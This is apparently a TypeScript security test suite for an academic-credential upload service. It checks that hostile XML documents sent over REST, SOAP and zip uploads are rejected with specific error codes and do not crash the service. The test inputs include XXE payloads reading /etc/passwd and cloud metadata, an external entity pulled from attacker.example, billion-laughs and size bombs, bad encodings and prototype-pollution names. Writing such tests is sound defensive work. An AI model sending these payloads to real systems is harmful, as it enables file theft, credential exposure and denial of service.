/**
 * Hostile XML sent through the real service: each document alone over the REST upload
 * (POST /api/v1/met/lotes?wait=true, application/xml), all of them in one zip over REST and over the
 * MET SOAP carga, and as certificados in one MEC folio upload. Each must come back with its specific
 * XML-* (or structure) code, never a 500, a PKG-INTERNAL row or a hang; no name from a document may
 * reach Object.prototype; the service must still register a valid título afterwards.
 */
import t from 'tap';
import { DEFAULT_XML_LIMITS } from '../../src/intake/xml.js';
import { MAX_NODES } from '../../src/intake/xml-parser.js';
import { basicAuth, buildTestApp } from '../support/app.js';
import { decFor, seedMecInstitution } from '../support/mec-scenario.js';
import { tituloFor, zipOf } from '../support/met-scenario.js';
import { LONG, recordFigures } from '../support/robustness-figures.js';
import { honestZip } from '../intake/zip-builders.js';
import { AttackTally, firstErrors, restUpload, soapUpload, type LoteDetail } from './hostile-support.js';

const tally = new AttackTally();
t.teardown(() => recordFigures('hostile-xml', tally.figures()));

const MiB = 1024 * 1024;
const DECLARATION = /^\s*<\?xml[^>]*\?>\s*/;

interface XmlAttack {
  readonly name: string;
  readonly code: string;
  readonly bytes: Buffer;
  /** Also sent inside the zip over REST, SOAP and the MEC (documents within the zip caps). */
  readonly inZip: boolean;
  /** The code when sent alone, where the upload's sniffing answers before the XML parser (PKG-FORMAT). */
  readonly aloneCode?: string;
}

function hostileXml(valid: string): XmlAttack[] {
  const body = valid.replace(DECLARATION, '');
  const list: XmlAttack[] = [];
  const add = (name: string, code: string, text: string | Buffer, inZip = true, aloneCode?: string): void => {
    list.push({ name, code, bytes: Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8'), inZip, ...(aloneCode ? { aloneCode } : {}) });
  };
  const withRootAttribute = (attribute: string): string => body.replace(/<TituloElectronico\b/, `<TituloElectronico ${attribute}`);

  // DTDs and entities.
  add('a DOCTYPE', 'XML-DOCTYPE', `<!DOCTYPE TituloElectronico>\n${body}`);
  add('a lower-case doctype', 'XML-DOCTYPE', `<!doctype TituloElectronico>\n${body}`);
  add('an external entity (XXE, file)', 'XML-DOCTYPE',
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${withRootAttribute('x="&xxe;"')}`);
  add('an external entity (XXE, http)', 'XML-DOCTYPE', `<!DOCTYPE r SYSTEM "http://169.254.169.254/latest/meta-data/">${body}`);
  add('an external parameter entity', 'XML-DOCTYPE', `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>${body}`);
  add('an internal entity', 'XML-DOCTYPE', `<!DOCTYPE r [<!ENTITY e "RECTOR">]>${withRootAttribute('x="&e;"')}`);
  const laughs = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join('');
  add('billion laughs', 'XML-DOCTYPE', `<?xml version="1.0"?><!DOCTYPE lolz [${laughs}]><lolz>&lol9;</lolz>`);
  add('quadratic blow-up', 'XML-DOCTYPE', `<!DOCTYPE q [<!ENTITY a "${'a'.repeat(50_000)}">]><q>${'&a;'.repeat(20_000)}</q>`);
  add('a DOCTYPE hidden after the root', 'XML-DOCTYPE', `${body}<!DOCTYPE r>`);
  add('an undeclared entity without a DOCTYPE', 'XML-MALFORMED', withRootAttribute('x="&xxe;"'));
  add('a character reference to U+0000', 'XML-MALFORMED', withRootAttribute('x="&#0;"'));
  add('a character reference past U+10FFFF', 'XML-MALFORMED', withRootAttribute('x="&#x110000;"'));
  add('a 400-digit character reference', 'XML-MALFORMED', withRootAttribute(`x="&#${'9'.repeat(400)};"`));

  // Size and shape.
  const depth = LONG ? 1_000_000 : 100_000;
  add(`nesting ${depth} deep`, 'XML-LIMIT', `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`, depth * 7 <= DEFAULT_XML_LIMITS.maxDocumentBytes);
  add(`nesting ${DEFAULT_XML_LIMITS.maxDepth + 1} deep inside the título`, 'XML-LIMIT',
    body.replace(/<\/TituloElectronico>/, `${'<x>'.repeat(DEFAULT_XML_LIMITS.maxDepth)}${'</x>'.repeat(DEFAULT_XML_LIMITS.maxDepth)}</TituloElectronico>`));
  add('a 10 MB attribute', 'XML-LIMIT', withRootAttribute(`x="${'A'.repeat(10 * MiB)}"`), false);
  add(`a ${DEFAULT_XML_LIMITS.maxAttributeLength + 1}-character attribute`, 'XML-LIMIT', withRootAttribute(`x="${'A'.repeat(DEFAULT_XML_LIMITS.maxAttributeLength + 1)}"`));
  add(`${DEFAULT_XML_LIMITS.maxAttributesPerElement + 1} attributes on one element`, 'XML-LIMIT',
    withRootAttribute(Array.from({ length: DEFAULT_XML_LIMITS.maxAttributesPerElement + 1 }, (_, i) => `a${i}="1"`).join(' ')));
  add(`${MAX_NODES + 1} empty elements`, 'XML-LIMIT', `<r>${'<a/>'.repeat(MAX_NODES + 1)}</r>`);
  add('a 3 MB document', 'XML-LIMIT', `${body}${' '.repeat(3 * MiB)}`, false);

  // Duplicates.
  add('a duplicate attribute', 'XML-DUPLICATE-ATTRIBUTE', withRootAttribute('folioControl="OTRO"'));
  add('a duplicate attribute through two prefixes of one namespace', 'XML-DUPLICATE-ATTRIBUTE',
    withRootAttribute('xmlns:p="urn:x" xmlns:q="urn:x" p:a="1" q:a="2"'));

  // Encodings.
  add('invalid UTF-8 (0xC3 0x28)', 'XML-ENCODING', Buffer.concat([Buffer.from(body.slice(0, 40)), Buffer.from([0xc3, 0x28]), Buffer.from(body.slice(40))]));
  add('an overlong UTF-8 "/" (0xC0 0xAF)', 'XML-ENCODING', Buffer.concat([Buffer.from(body.slice(0, 40)), Buffer.from([0xc0, 0xaf]), Buffer.from(body.slice(40))]));
  add('a UTF-8-encoded surrogate (0xED 0xA0 0x80)', 'XML-ENCODING', Buffer.concat([Buffer.from(body.slice(0, 40)), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(body.slice(40))]));
  add('a truncated UTF-8 sequence at the end', 'XML-ENCODING', Buffer.concat([Buffer.from(body), Buffer.from([0xe2, 0x82])]));
  add('encoding="ISO-8859-1" declared over UTF-8 bytes', 'XML-ENCODING', `<?xml version="1.0" encoding="ISO-8859-1"?>${body}`);
  add('encoding="ISO-8859-1" with Latin-1 bytes', 'XML-ENCODING', Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${body}`, 'latin1'));
  add('encoding="UTF-8" declared over Latin-1 bytes', 'XML-ENCODING', Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>${body}`, 'latin1'));
  add('encoding="UTF-16" declared over UTF-8 bytes', 'XML-ENCODING', `<?xml version="1.0" encoding="UTF-16"?>${body}`);
  add('UTF-16LE with its BOM', 'XML-ENCODING', Buffer.from(`\ufeff${body}`, 'utf16le'), true, 'PKG-FORMAT');
  add('two UTF-8 BOMs', 'XML-MALFORMED', `\ufeff\ufeff${body}`, true, 'PKG-FORMAT');
  add('a BOM after the XML declaration', 'XML-MALFORMED', `<?xml version="1.0" encoding="UTF-8"?>\ufeff${body}`);

  // Names that are JavaScript's own.
  add('__proto__ as the root element', 'TIT-ROOT', '<__proto__ polluted="yes"><constructor prototype="x"/></__proto__>');
  add('__proto__ as an attribute', 'TIT-ATTR-UNKNOWN', withRootAttribute('__proto__="polluted"'));
  add('constructor as an attribute', 'TIT-ATTR-UNKNOWN', withRootAttribute('constructor="polluted"'));
  add('__proto__ as an element', 'TIT-ELEMENT', body.replace(/<\/TituloElectronico>/, '<__proto__ polluted="yes"/></TituloElectronico>'));
  add('constructor and prototype as elements', 'TIT-ELEMENT', body.replace(/<\/TituloElectronico>/, '<constructor><prototype polluted="yes"/></constructor></TituloElectronico>'));
  add('__proto__ as a namespace prefix', 'TIT-ATTR-UNKNOWN', withRootAttribute('xmlns:__proto__="urn:x" __proto__:polluted="yes"'));
  return list;
}

t.test('hostile XML through the REST upload, a zip over REST and SOAP, and a MEC folio upload', async (t) => {
  const testApp = await buildTestApp();
  t.teardown(() => testApp.close());
  const { app } = testApp;
  const inst = await seedMecInstitution(testApp);
  const auth = basicAuth(inst.usuario, inst.password);
  const credentials = { usuario: inst.usuario, password: inst.password };
  const attacks = hostileXml(tituloFor(testApp, inst, 'XML-HOSTIL-0'));

  for (const attack of attacks) {
    await tally.expect(t, `REST XML: ${attack.name}`, attack.aloneCode ?? attack.code, () => restUpload(app, auth, attack.bytes, 'hostil.xml', 'application/xml'));
  }

  const zipped = attacks.filter((a) => a.inZip);
  // Stored, not deflated: several of these documents are repetitive enough to trip the zip's ratio
  // cap (PKG-ZIP-RATIO for the whole upload), and here each must reach the XML parser.
  const zip = await honestZip(zipped.map((a, i) => ({ name: `hostil${i}.xml`, data: a.bytes, compress: false })));
  const expected = zipped.map((a) => a.code).join(',');
  for (const door of ['REST', 'SOAP'] as const) {
    const answer = door === 'REST' ? await restUpload(app, auth, zip, 'hostiles.zip') : await soapUpload(app, credentials, auth, 'hostiles.zip', Buffer.from(zip));
    const codes = answer.code.split(',');
    t.equal(codes.length, zipped.length, `${door} zip: one result per document`);
    zipped.forEach((a, i) => {
      tally.tried++;
      const ok = codes[i] === a.code && !answer.crashed;
      if (ok) tally.rejected++;
      t.ok(ok, `${door} zip: ${a.name}: ${codes[i]}`);
    });
    if (answer.crashed) tally.crashes++;
    t.equal(answer.code, expected, `${door} zip: every code, in order`);
  }

  // Certificados: one folio for every hostile document, one upload, one attempt.
  const folio = (await app.inject({ method: 'POST', url: '/api/v1/mec/folios', headers: auth, payload: { certificados: zipped.length } })).json() as { folio: string };
  const mec = await app.inject({ method: 'POST', url: `/api/v1/mec/folios/${folio.folio}/cargas?wait=true&checks=problems`, headers: { ...auth, 'content-type': 'application/zip' }, payload: zip });
  t.equal(mec.statusCode, 200, 'the MEC upload is processed');
  const mecCodes = mec.statusCode === 200 ? firstErrors(mec.json() as LoteDetail) : [];
  zipped.forEach((a, i) => {
    // A certificado's structure codes are the DEC's own; the XML-* ones are shared.
    const want = a.code.startsWith('XML-') ? a.code : /^DEC-/;
    tally.tried++;
    const ok = typeof want === 'string' ? mecCodes[i] === want : want.test(mecCodes[i] ?? '');
    if (ok) tally.rejected++;
    t.ok(ok, `MEC zip: ${a.name}: ${mecCodes[i]}`);
  });
  if (mec.statusCode >= 500) tally.crashes++;

  t.equal(({} as Record<string, unknown>)['polluted'], undefined, 'Object.prototype is untouched');
  t.equal(Object.getPrototypeOf({}), Object.prototype);

  // The service still does its job.
  const bom = await restUpload(app, auth, Buffer.from(`\ufeff${tituloFor(testApp, inst, 'XML-BOM-1')}`), 'bom.xml', 'application/xml');
  t.equal(bom.code, '', 'a título with one UTF-8 BOM is registered (tolerated, as documented)');
  const named = await restUpload(app, auth, await zipOf([
    { name: '__proto__.xml', content: tituloFor(testApp, inst, 'XML-PROTO-1') },
    { name: 'constructor.xml', content: tituloFor(testApp, inst, 'XML-PROTO-2') },
  ]), 'proto.zip');
  t.equal(named.code, ',', 'entries named __proto__.xml and constructor.xml are ordinary files, both registered');
  const valid = await restUpload(app, auth, Buffer.from(tituloFor(testApp, inst, 'XML-OK-1')), 'ok.xml', 'application/xml');
  t.equal(valid.code, '', 'a valid título is still registered');
  const dec = await app.inject({
    method: 'POST',
    url: `/api/v1/mec/folios/${(await app.inject({ method: 'POST', url: '/api/v1/mec/folios', headers: auth, payload: { certificados: 1 } })).json().folio}/cargas?wait=true`,
    headers: { ...auth, 'content-type': 'application/zip' },
    payload: await zipOf([{ name: 'dec.xml', content: decFor(testApp, inst, 'XML-DEC-OK') }]),
  });
  t.equal(dec.json().documents?.[0]?.descripcion, 'SATISFACTORIO', 'and a valid certificado');
  t.equal(tally.crashes, 0, 'no crash');
});
